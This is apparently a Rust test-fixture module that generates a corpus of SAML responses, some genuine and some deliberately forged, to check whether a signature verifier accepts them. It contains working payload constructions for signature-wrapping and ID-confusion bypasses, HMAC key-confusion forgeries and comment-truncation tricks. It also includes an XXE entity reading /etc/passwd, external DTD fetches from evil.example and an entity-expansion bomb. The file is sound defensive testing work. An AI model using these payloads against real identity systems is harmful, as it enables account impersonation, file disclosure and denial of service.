//! The attack set: signed responses, changed in every way that has fooled a SAML implementation. Made here, with
//! keys of this run, so that nothing of it is somebody else's file.

use aws_lc_rs::hmac;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use claimbridge_practice::{SigningKey, sign};

/// Whom the honest provider signed for.
pub const ALICE: &str = "alice@contoso.example";
/// Whom the attacker wants to be.
pub const MALLORY: &str = "mallory@evil.example";
pub const ISSUER: &str = "https://idp.example";
/// Recipient, destination and audience.
pub const ACS: &str = "https://sp.example/saml";
pub const AT: &str = "2026-11-22T16:00:00Z";
const SAML: &str = "urn:oasis:names:tc:SAML:2.0:assertion";
const SAMLP: &str = "urn:oasis:names:tc:SAML:2.0:protocol";
const DSIG: &str = "http://www.w3.org/2000/09/xmldsig#";
const MORE: &str = "http://www.w3.org/2001/04/xmldsig-more#";
const EXCLUSIVE: &str =
    "<ds:Transform Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/></ds:Transforms>";
const TAG: &str = "https://aws.amazon.com/SAML/Attributes/PrincipalTag:Email";

/// One document of the set.
pub struct Made {
    pub what: &'static str,
    pub bytes: Vec<u8>,
    /// What is signed and what is read is Alice's, whole and unchanged: it may be accepted.
    pub genuine: bool,
}

/// An assertion as the schema wants it.
pub fn assertion(id: &str, name: &str) -> String {
    format!(
        "<saml:Assertion xmlns:saml=\"{SAML}\" ID=\"{id}\" Version=\"2.0\" IssueInstant=\"{AT}\"><saml:Issuer>{ISSUER}</saml:Issuer><saml:Subject><saml:NameID Format=\"urn:oasis:names:tc:SAML:2.0:nameid-format:persistent\">{name}</saml:NameID><saml:SubjectConfirmation Method=\"urn:oasis:names:tc:SAML:2.0:cm:bearer\"><saml:SubjectConfirmationData NotOnOrAfter=\"2026-11-22T17:00:00Z\" Recipient=\"{ACS}\"/></saml:SubjectConfirmation></saml:Subject><saml:Conditions NotBefore=\"2026-11-22T15:55:00Z\" NotOnOrAfter=\"2026-11-22T17:00:00Z\"><saml:AudienceRestriction><saml:Audience>{ACS}</saml:Audience></saml:AudienceRestriction></saml:Conditions><saml:AuthnStatement AuthnInstant=\"{AT}\" SessionIndex=\"_s\"><saml:AuthnContext><saml:AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:Password</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement><saml:AttributeStatement><saml:Attribute Name=\"{TAG}\"><saml:AttributeValue>{name}</saml:AttributeValue></saml:Attribute></saml:AttributeStatement></saml:Assertion>"
    )
}

/// A response around it.
pub fn response(inside: &str) -> String {
    format!(
        "<samlp:Response xmlns:samlp=\"{SAMLP}\" ID=\"_r\" Version=\"2.0\" IssueInstant=\"{AT}\" Destination=\"{ACS}\"><saml:Issuer xmlns:saml=\"{SAML}\">{ISSUER}</saml:Issuer><samlp:Status><samlp:StatusCode Value=\"urn:oasis:names:tc:SAML:2.0:status:Success\"/></samlp:Status>{inside}</samlp:Response>"
    )
}

/// From the first `from` to the end of the first `to` behind it.
fn cut<'a>(xml: &'a str, from: &str, to: &str) -> &'a str {
    let start = xml.find(from).unwrap();
    let end = xml[start..].find(to).unwrap() + to.len();
    &xml[start..start + end]
}

fn after(xml: &str, mark: &str, more: &str) -> String {
    assert!(xml.contains(mark), "{mark}");
    xml.replacen(mark, &format!("{mark}{more}"), 1)
}

fn before(xml: &str, mark: &str, more: &str) -> String {
    assert!(xml.contains(mark), "{mark}");
    xml.replacen(mark, &format!("{more}{mark}"), 1)
}

fn swap(xml: &str, from: &str, to: &str) -> String {
    assert!(xml.contains(from), "{from}");
    xml.replacen(from, to, 1)
}

/// `SignedInfo` as exclusive canonicalisation sees it, given how [`sign`] writes it.
fn canonical(info: &str) -> String {
    let mut out = swap(
        info,
        "<ds:SignedInfo>",
        &format!("<ds:SignedInfo xmlns:ds=\"{DSIG}\">"),
    );
    while let Some(end) = out.find("/>") {
        let start = out[..end].rfind('<').unwrap();
        let name = out[start + 1..end].split(' ').next().unwrap().to_owned();
        out.replace_range(end..end + 2, &format!("></{name}>"));
    }
    out
}

/// A signature with a secret that everybody knows.
fn with_hmac(evil_signed: &str, secret: &[u8]) -> String {
    let changed = swap(
        evil_signed,
        &format!("{MORE}rsa-sha256"),
        &format!("{MORE}hmac-sha256"),
    );
    let info = canonical(cut(&changed, "<ds:SignedInfo>", "</ds:SignedInfo>"));
    let key = hmac::Key::new(hmac::HMAC_SHA256, secret);
    let value = STANDARD.encode(hmac::sign(&key, info.as_bytes()));
    let old = cut(&changed, "<ds:SignatureValue>", "</ds:SignatureValue>").to_owned();
    swap(
        &changed,
        &old,
        &format!("<ds:SignatureValue>{value}</ds:SignatureValue>"),
    )
}

/// The whole set.
pub fn all(honest: &SigningKey, stranger: &SigningKey) -> Vec<Made> {
    let mut made = Vec::new();
    let mut push =
        |what: &'static str, genuine: bool, bytes: Vec<u8>| made.push(Made { what, bytes, genuine });
    let plain = response(&assertion("_a", ALICE));
    let good = sign(&plain, "_a", honest).unwrap();
    let whole = sign(&plain, "_r", honest).unwrap();
    let both = sign(&good, "_r", honest).unwrap();
    for (what, xml) in [
        ("assertion signed", &good),
        ("response signed", &whole),
        ("both signed", &both),
    ] {
        push(what, true, xml.clone().into_bytes());
    }
    let signed = cut(&good, "<saml:Assertion", "</saml:Assertion>").to_owned();
    let signature = cut(&signed, "<ds:Signature ", "</ds:Signature>").to_owned();
    let info = cut(&good, "<ds:SignedInfo>", "</ds:SignedInfo>").to_owned();
    let bare = signed.replace(&signature, "");
    let evil = assertion("_evil", MALLORY);
    let in_evil = |inside: &str| after(&evil, "</saml:Issuer>", inside);
    let instead = |inside: &str| swap(&good, &signed, inside);
    let extensions = |inside: &str| format!("<samlp:Extensions>{inside}</samlp:Extensions>");
    let mut attack = |what: &'static str, xml: String| push(what, false, xml.into_bytes());

    // Wrapping (XSW): the signed part is moved, another part is read.
    attack("XSW1 the signed response inside an unsigned one", {
        let inner = whole.clone();
        let outer = response(&evil).replace("\"_r\"", "\"_outer\"");
        before(&outer, "<samlp:Status>", &extensions(&inner))
    });
    attack(
        "XSW1 the signed response at the end of another",
        before(&good, "</samlp:Response>", &good),
    );
    attack("XSW2 the signature of a response, detached", {
        let outer = response(&evil).replace("\"_r\"", "\"_outer\"");
        let signature = cut(&whole, "<ds:Signature ", "</ds:Signature>");
        let inner = whole.replace(signature, "");
        after(
            &outer,
            "</saml:Issuer>",
            &format!("{signature}{}", extensions(&inner)),
        )
    });
    attack(
        "XSW3 the other assertion first",
        instead(&format!("{evil}{signed}")),
    );
    attack(
        "XSW3 the other assertion last",
        instead(&format!("{signed}{evil}")),
    );
    attack(
        "XSW4 the signed assertion inside the other",
        instead(&in_evil(&signed)),
    );
    attack(
        "XSW4 the signed assertion at the other's end",
        instead(&before(&evil, "</saml:Assertion>", &signed)),
    );
    attack(
        "XSW5 the signature in the other, the signed one behind",
        instead(&format!("{}{bare}", in_evil(&signature))),
    );
    attack(
        "XSW6 the signed one inside the signature",
        instead(&in_evil(&before(&signature, "</ds:Signature>", &bare))),
    );
    attack(
        "XSW7 the signed one in Extensions",
        before(&instead(&evil), "<samlp:Status>", &extensions(&signed)),
    );
    attack(
        "XSW8 the signed one in an Object",
        instead(&in_evil(&before(
            &signature,
            "</ds:Signature>",
            &format!("<ds:Object>{bare}</ds:Object>"),
        ))),
    );
    attack(
        "wrapped in Advice",
        instead(&after(
            &evil,
            "</saml:Conditions>",
            &format!("<saml:Advice>{signed}</saml:Advice>"),
        )),
    );
    attack(
        "wrapped in StatusDetail",
        swap(
            &instead(&evil),
            "</samlp:Status>",
            &format!("<samlp:StatusDetail>{signed}</samlp:StatusDetail></samlp:Status>"),
        ),
    );
    attack(
        "wrapped in SubjectConfirmationData",
        instead(&swap(
            &evil,
            &format!("Recipient=\"{ACS}\"/>"),
            &format!("Recipient=\"{ACS}\">{signed}</saml:SubjectConfirmationData>"),
        )),
    );
    attack(
        "wrapped in an AttributeValue",
        instead(&swap(
            &evil,
            &format!("<saml:AttributeValue>{MALLORY}"),
            &format!("<saml:AttributeValue>{MALLORY}{signed}"),
        )),
    );
    attack(
        "wrapped in KeyInfo",
        instead(&in_evil(&swap(
            &signature,
            "<ds:KeyInfo>",
            &format!("<ds:KeyInfo>{bare}"),
        ))),
    );
    attack(
        "wrapped in Transforms",
        instead(&in_evil(&swap(
            &signature,
            "</ds:Transforms>",
            &format!("{bare}</ds:Transforms>"),
        ))),
    );
    attack(
        "wrapped in EncryptedAssertion",
        instead(&format!(
            "{evil}<saml:EncryptedAssertion xmlns:saml=\"{SAML}\">{signed}</saml:EncryptedAssertion>"
        )),
    );
    attack(
        "an unsigned assertion in a foreign element",
        before(&good, "<samlp:Status>", &format!("<x xmlns=\"urn:x\">{evil}</x>")),
    );
    attack(
        "the other assertion with another prefix",
        instead(&format!(
            "{}{signed}",
            evil.replace("saml:", "saml2:")
                .replace("xmlns:saml=", "xmlns:saml2=")
        )),
    );
    attack(
        "the other assertion in the default namespace",
        instead(&format!(
            "{}{signed}",
            evil.replace("saml:", "").replace("xmlns:saml=", "xmlns=")
        )),
    );
    attack(
        "two assertions under one signed response, one added",
        before(&whole, "</samlp:Response>", &evil),
    );
    attack("assertion alone", signed.clone());
    attack(
        "in a SOAP envelope",
        format!(
            "<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\"><s:Body>{good}</s:Body></s:Envelope>"
        ),
    );
    attack(
        "in an ArtifactResponse",
        format!(
            "<samlp:ArtifactResponse xmlns:samlp=\"{SAMLP}\" ID=\"_ar\" Version=\"2.0\" IssueInstant=\"{AT}\">{good}</samlp:ArtifactResponse>"
        ),
    );
    attack(
        "response in a look-alike namespace",
        good.replace(SAMLP, &format!("{SAMLP} ")),
    );

    // Ids that stand twice, or are read by another name.
    attack(
        "same ID twice, the other first",
        instead(&format!("{}{signed}", evil.replace("_evil", "_a"))),
    );
    attack(
        "same ID twice, the other last",
        instead(&format!("{signed}{}", evil.replace("_evil", "_a"))),
    );
    attack("same ID on the response", swap(&good, "ID=\"_r\"", "ID=\"_a\""));
    attack(
        "same as Id",
        before(
            &instead(&in_evil(&signature)),
            "<samlp:Status>",
            &extensions(&bare.replace("ID=\"_a\"", "Id=\"_a\"")),
        ),
    );
    attack(
        "same as id",
        before(&good, "<samlp:Status>", &extensions("<x id=\"_a\"/>")),
    );
    attack(
        "same as xml:id",
        before(
            &instead(&evil.replace("ID=\"_evil\"", "ID=\"_evil\" xml:id=\"_a\"")),
            "<samlp:Status>",
            &extensions(&signed),
        ),
    );
    attack(
        "an ID in a namespace",
        instead(&evil.replace("ID=\"_evil\"", "saml:ID=\"_a\"")),
    );
    attack("no ID at all", swap(&good, " ID=\"_a\"", ""));

    // The signature itself.
    attack("unsigned", plain.clone());
    attack("changed name", good.replace(ALICE, MALLORY));
    attack(
        "changed audience",
        swap(
            &good,
            &format!("<saml:Audience>{ACS}"),
            "<saml:Audience>https://evil.example",
        ),
    );
    attack("longer validity", good.replace("17:00:00Z", "23:00:00Z"));
    attack(
        "signed by a stranger, with the stranger's certificate",
        sign(&response(&assertion("_a", MALLORY)), "_a", stranger).unwrap(),
    );
    attack("signed by a stranger, with the honest certificate", {
        let by_stranger = sign(&response(&assertion("_a", MALLORY)), "_a", stranger).unwrap();
        by_stranger.replace(
            &STANDARD.encode(stranger.certificate()),
            &STANDARD.encode(honest.certificate()),
        )
    });
    attack("signed by a stranger, with no certificate", {
        let by_stranger = sign(&response(&assertion("_a", MALLORY)), "_a", stranger).unwrap();
        let key_info = cut(&by_stranger, "<ds:KeyInfo>", "</ds:KeyInfo>").to_owned();
        swap(&by_stranger, &key_info, "")
    });
    attack("stranger inside, honest outside, then changed", {
        let inner = sign(&response(&assertion("_a", MALLORY)), "_a", stranger).unwrap();
        sign(&inner, "_r", honest)
            .unwrap()
            .replace("<saml:NameID Format", "<saml:NameID x=\"\" Format")
    });
    attack(
        "stranger outside, honest inside",
        sign(&good, "_r", stranger).unwrap(),
    );
    attack("two signatures, the stranger's first", {
        let theirs = sign(&plain, "_a", stranger).unwrap();
        let theirs = cut(&theirs, "<ds:Signature ", "</ds:Signature>").to_owned();
        before(&good, "<ds:Signature ", &theirs)
    });
    attack(
        "two signatures, the same twice",
        before(&good, "<ds:Signature ", &signature),
    );
    attack(
        "the signature moved to the response",
        after(&swap(&good, &signature, ""), "</saml:Issuer>", &signature),
    );
    attack(
        "the signature in Subject",
        swap(
            &swap(&good, &signature, ""),
            "<saml:Subject>",
            &format!("<saml:Subject>{signature}"),
        ),
    );
    attack(
        "the signature in Extensions",
        before(
            &swap(&good, &signature, ""),
            "<samlp:Status>",
            &extensions(&signature),
        ),
    );
    attack(
        "two SignedInfo, the other behind",
        after(&good, &info, &info.replace("#_a", "#_r")),
    );
    attack(
        "two SignedInfo, the other first",
        before(&good, &info, &info.replace("#_a", "#_r")),
    );
    attack(
        "SignedInfo in an Object",
        swap(&good, &info, &format!("<ds:Object>{info}</ds:Object>")),
    );
    attack("two references", {
        let reference = cut(&good, "<ds:Reference ", "</ds:Reference>").to_owned();
        after(&good, &reference, &reference.replace("#_a", "#_r"))
    });
    attack("a digest of something else", {
        let digest = cut(&good, "<ds:DigestValue>", "</ds:DigestValue>").to_owned();
        swap(
            &good,
            &digest,
            "<ds:DigestValue>47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=</ds:DigestValue>",
        )
    });
    for (what, value) in [
        ("no signature value", ""),
        ("a signature value of one byte", "AA=="),
        ("a signature value that is no base64", "!!!!"),
    ] {
        let old = cut(&good, "<ds:SignatureValue>", "</ds:SignatureValue>").to_owned();
        attack(
            what,
            swap(
                &good,
                &old,
                &format!("<ds:SignatureValue>{value}</ds:SignatureValue>"),
            ),
        );
    }
    attack("a signature value of zeros", {
        let old = cut(&good, "<ds:SignatureValue>", "</ds:SignatureValue>").to_owned();
        swap(
            &good,
            &old,
            &format!(
                "<ds:SignatureValue>{}</ds:SignatureValue>",
                STANDARD.encode([0_u8; 256])
            ),
        )
    });
    attack("a signature over another element", {
        let harmless = format!("<x xmlns=\"urn:x\" ID=\"_x\"><Issuer>{ISSUER}</Issuer></x>");
        let xml = before(&response(&evil), "<samlp:Status>", &extensions(&harmless));
        let signed = sign(&xml, "_x", honest).unwrap();
        let signature = cut(&signed, "<ds:Signature ", "</ds:Signature>").to_owned();
        let moved = swap(&signed, &signature, "");
        after(
            &moved,
            &format!(
                "ID=\"_evil\" Version=\"2.0\" IssueInstant=\"{AT}\"><saml:Issuer>{ISSUER}</saml:Issuer>"
            ),
            &signature,
        )
    });

    // References.
    for (what, uri) in [
        ("an empty reference", ""),
        ("a reference to a file", "Cargo.toml"),
        ("a reference to an address", "https://evil.example/x"),
        ("a reference without a name", "#"),
        ("a reference in other letters", "#_A"),
        ("a reference with a blank", "#_a "),
        ("a reference in percent", "#%5Fa"),
        ("an xpointer of the root", "#xpointer(/)"),
        ("an xpointer of the assertion", "#xpointer(id('_a'))"),
        ("a reference to the response", "#_r"),
    ] {
        attack(what, swap(&good, "URI=\"#_a\"", &format!("URI=\"{uri}\"")));
    }
    attack("a reference without URI", swap(&good, " URI=\"#_a\"", ""));

    // Algorithms and transforms.
    let method = format!("{MORE}rsa-sha256");
    for (what, name) in [
        ("HMAC-SHA1 by name", format!("{DSIG}hmac-sha1")),
        ("DSA by name", format!("{DSIG}dsa-sha1")),
        ("RSA-MD5 by name", format!("{MORE}rsa-md5")),
        ("RSA-SHA512 by name", format!("{MORE}rsa-sha512")),
        ("ECDSA by name", format!("{MORE}ecdsa-sha256")),
        ("no algorithm", String::new()),
        ("none", "none".to_owned()),
    ] {
        attack(what, swap(&good, &method, &name));
    }
    let evil_signed = sign(&response(&assertion("_a", MALLORY)), "_a", stranger).unwrap();
    attack(
        "HMAC with the certificate",
        with_hmac(&evil_signed, honest.certificate()),
    );
    attack(
        "HMAC with the certificate's text",
        with_hmac(&evil_signed, STANDARD.encode(honest.certificate()).as_bytes()),
    );
    attack("HMAC with nothing", with_hmac(&evil_signed, b""));
    attack("HMAC with the public key", {
        use x509_parser::prelude::{FromDer, X509Certificate};
        let (_, parsed) = X509Certificate::from_der(honest.certificate()).unwrap();
        with_hmac(&evil_signed, parsed.public_key().raw)
    });
    let transform = |inside: &str| swap(&good, EXCLUSIVE, &format!("{inside}</ds:Transforms>"));
    attack(
        "XSLT",
        transform(
            "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"><xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" version=\"1.0\"><xsl:template match=\"/\"><x/></xsl:template></xsl:stylesheet></ds:Transform>",
        ),
    );
    attack(
        "XPath",
        transform(
            "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>not(ancestor-or-self::saml:NameID)</ds:XPath></ds:Transform>",
        ),
    );
    attack(
        "XPath filter",
        transform(
            "<ds:Transform Algorithm=\"http://www.w3.org/2002/06/xmldsig-filter2\"><f:XPath xmlns:f=\"http://www.w3.org/2002/06/xmldsig-filter2\" Filter=\"subtract\">//NameID</f:XPath></ds:Transform>",
        ),
    );
    attack(
        "base64 transform",
        transform(&format!("<ds:Transform Algorithm=\"{DSIG}base64\"/>")),
    );
    attack(
        "an unknown transform",
        transform("<ds:Transform Algorithm=\"urn:x\"/>"),
    );
    attack("no transform", {
        let transforms = cut(&good, "<ds:Transforms>", "</ds:Transforms>").to_owned();
        swap(&good, &transforms, "")
    });
    attack(
        "enveloped twice",
        swap(
            &good,
            EXCLUSIVE,
            &format!("<ds:Transform Algorithm=\"{DSIG}enveloped-signature\"/>{EXCLUSIVE}"),
        ),
    );
    attack(
        "XSLT as canonicalisation",
        swap(
            &good,
            "<ds:CanonicalizationMethod Algorithm=\"http://www.w3.org/2001/10/xml-exc-c14n#\"/>",
            "<ds:CanonicalizationMethod Algorithm=\"http://www.w3.org/TR/1999/REC-xslt-19991116\"/>",
        ),
    );

    // Parsers that read differently.
    let name = format!("{ALICE}</saml:NameID>");
    attack(
        "a comment in NameID",
        swap(
            &good,
            &name,
            &format!("{ALICE}<!-- -->.evil.example</saml:NameID>"),
        ),
    );
    attack(
        "a comment in a NameID that was signed without",
        swap(&good, &name, "alice<!-- -->@contoso.example</saml:NameID>"),
    );
    attack("a comment that was signed", {
        let xml = response(&assertion("_a", "admin@contoso.example<!-- -->.evil.example"));
        sign(&xml, "_a", honest).unwrap()
    });
    attack(
        "a processing instruction in NameID",
        swap(&good, &name, "alice<?x y?>@contoso.example</saml:NameID>"),
    );
    attack("an element in NameID", swap(&good, &name, &format!("<x/>{name}")));
    attack(
        "a comment in Audience",
        swap(
            &good,
            &format!("<saml:Audience>{ACS}"),
            "<saml:Audience>https://sp<!-- -->.example/saml",
        ),
    );
    attack(
        "a comment in Issuer",
        good.replace(
            &format!("{ISSUER}</saml:Issuer>"),
            "https://idp<!-- -->.example</saml:Issuer>",
        ),
    );
    attack(
        "text more in CDATA",
        swap(
            &good,
            &name,
            &format!("{ALICE}<![CDATA[.evil.example]]></saml:NameID>"),
        ),
    );
    attack(
        "text that looks like an entity",
        swap(&good, &name, "alice&amp;#64;contoso.example</saml:NameID>"),
    );
    attack(
        "an entity that is not declared",
        swap(&good, &name, "&alice;</saml:NameID>"),
    );
    attack(
        "a null character",
        swap(&good, &name, "alice&#0;@contoso.example</saml:NameID>"),
    );
    attack(
        "an undeclared prefix",
        swap(&good, "<samlp:Status>", "<samlp:Status zz:a=\"1\">"),
    );
    attack(
        "one attribute under two prefixes",
        swap(
            &good,
            "<samlp:Status>",
            "<samlp:Status xmlns:a=\"u\" xmlns:b=\"u\" a:x=\"1\" b:x=\"2\">",
        ),
    );
    attack(
        "one attribute twice",
        swap(&good, "<samlp:Response ", "<samlp:Response ID=\"_q\" "),
    );
    attack("signed one hidden by references in namespaces", {
        let hidden = signed
            .replace(SAML, &SAML.replace("assertion", "assertio&#110;"))
            .replace("xmldsig#\"", "xmldsig&#35;\"");
        let false_signature =
            format!("<ds:Signature xmlns:ds=\"urn:x\" xmlnsds=\"{DSIG}\"><ds:SignedInfo/></ds:Signature>");
        before(
            &instead(&in_evil(&false_signature)),
            "<samlp:Status>",
            &extensions(&hidden),
        )
    });
    attack("two roots", format!("{good}{}", response(&evil)));
    attack("text behind the root", format!("{good}x"));
    attack(
        "a declaration in the middle",
        swap(&good, "<samlp:Status>", "<?xml version=\"1.0\"?><samlp:Status>"),
    );
    attack("a DTD", format!("<!DOCTYPE x [<!ENTITY e \"u\">]>{good}"));
    attack(
        "an external entity",
        format!(
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>{}",
            swap(&good, &name, "&e;</saml:NameID>")
        ),
    );
    attack(
        "an external DTD",
        format!("<!DOCTYPE x SYSTEM \"https://evil.example/x.dtd\">{good}"),
    );
    attack(
        "a parameter entity",
        format!("<!DOCTYPE x [<!ENTITY % e SYSTEM \"https://evil.example/x.dtd\"> %e;]>{good}"),
    );
    attack(
        "a DTD that makes ids",
        format!("<!DOCTYPE x [<!ATTLIST saml:Assertion AssertionID ID #IMPLIED>]>{good}"),
    );
    attack("a bomb of entities", {
        let entities: String = (1..12)
            .map(|i| format!("<!ENTITY e{i} \"{}\">", format!("&e{};", i - 1).repeat(10)))
            .collect();
        format!(
            "<!DOCTYPE x [<!ENTITY e0 \"x\">{entities}]>{}",
            swap(&good, &name, "&e11;</saml:NameID>")
        )
    });
    attack(
        "nested 10,000 deep",
        before(
            &good,
            "<samlp:Status>",
            &format!("{}{}", "<x>".repeat(10_000), "</x>".repeat(10_000)),
        ),
    );
    attack(
        "encoding named that is not there",
        format!(
            "<?xml version=\"1.0\" encoding=\"UTF-7\"?>{}",
            good.replace(ALICE, "+AG0-allory")
        ),
    );

    // Changed, and still what was signed.
    let mut same = |what: &'static str, bytes: Vec<u8>| push(what, true, bytes);
    same(
        "an element more outside",
        before(
            &good,
            "<samlp:Status>",
            "<samlp:Extensions><x xmlns=\"urn:x\"/></samlp:Extensions>",
        )
        .into_bytes(),
    );
    same(
        "another destination outside",
        swap(
            &good,
            &format!("Destination=\"{ACS}\""),
            "Destination=\"https://other.example\"",
        )
        .into_bytes(),
    );
    same(
        "a comment between elements",
        swap(&good, "<saml:Subject>", "<saml:Subject><!-- x -->").into_bytes(),
    );
    same(
        "a character as a reference",
        swap(&good, &name, "&#97;lice@contoso.example</saml:NameID>").into_bytes(),
    );
    same(
        "text in CDATA",
        swap(&good, &name, &format!("<![CDATA[{ALICE}]]></saml:NameID>")).into_bytes(),
    );
    same(
        "another quotation mark",
        swap(
            &good,
            "Version=\"2.0\" IssueInstant",
            "Version='2.0' IssueInstant",
        )
        .into_bytes(),
    );
    same(
        "attributes in another order",
        swap(
            &good,
            &format!("NotOnOrAfter=\"2026-11-22T17:00:00Z\" Recipient=\"{ACS}\""),
            &format!("Recipient=\"{ACS}\" NotOnOrAfter=\"2026-11-22T17:00:00Z\""),
        )
        .into_bytes(),
    );
    same("lines in the signature value", {
        let value = cut(&good, "<ds:SignatureValue>", "</ds:SignatureValue>").to_owned();
        swap(&good, &value, &value.replace("A", "A\n")).into_bytes()
    });
    same(
        "a byte order mark",
        [&[0xef, 0xbb, 0xbf], good.as_bytes()].concat(),
    );
    same(
        "UTF-16",
        [0xff_u8, 0xfe]
            .into_iter()
            .chain(good.encode_utf16().flat_map(u16::to_le_bytes))
            .collect(),
    );
    made
}
